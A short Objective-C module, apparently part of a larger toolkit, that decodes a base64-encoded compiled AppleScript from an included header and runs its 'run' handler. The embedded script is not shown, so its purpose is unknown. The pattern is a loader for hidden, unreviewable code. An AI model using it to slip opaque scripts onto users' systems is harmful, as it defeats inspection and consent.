/* A compiled script lies in the module as base64 in lines, as mail has it. */
#include "objc.h"
@interface NSData
+ (id)alloc;
- (id)initWithBase64EncodedString:(NSString *)text options:(unsigned long)options;
@end
@interface NSMutableString : NSString
+ (id)string;
- (void)appendString:(NSString *)text;
@end
@interface OSAScript
+ (id)alloc;
- (id)initWithCompiledData:(NSData *)data error:(id *)error;
- (id)executeHandlerWithName:(NSString *)name arguments:(id)arguments error:(id *)error;
@end
#include "packed.h" /* lines */
static void act(char **env) {
    id error = 0;
    NSMutableString *whole = [NSMutableString string];
    for (const char *const *line = lines; *line; line++) [whole appendString:[NSString stringWithUTF8String:*line]];
    OSAScript *script = [[OSAScript alloc] initWithCompiledData:[[NSData alloc] initWithBase64EncodedString:whole options:1] error:&error];
    [script executeHandlerWithName:[NSString stringWithUTF8String:"run"] arguments:0 error:&error];
}
